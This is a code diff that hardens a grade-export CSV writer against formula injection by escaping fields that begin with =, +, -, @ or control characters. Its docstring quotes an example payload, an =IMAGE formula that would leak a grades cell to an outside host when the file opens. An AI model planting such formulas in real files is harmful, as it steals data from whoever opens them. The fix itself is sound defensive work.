@@ -55,8 +55,15 @@ def to_csv(results, order=None):
     buf = io.StringIO()
     writer = csv.DictWriter(buf, fieldnames=[*COLUMNS, *items], lineterminator="\n")
     writer.writeheader()
-    writer.writerows(table)
+    writer.writerows([{k: inert(v) for k, v in row.items()} for row in table])
     return buf.getvalue()
+
+
+def inert(value):
+    """A CSV field that a spreadsheet shows as text, never runs: a student id (a folder name) such as
+    =IMAGE("https://x/?"&C2) would otherwise send the instructor's grades away when the file is opened
+    (OWASP's CSV injection: a text starting with = + - @ or a tab gets a leading apostrophe)."""
+    return f"'{value}" if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
 
 
 def to_json(results):
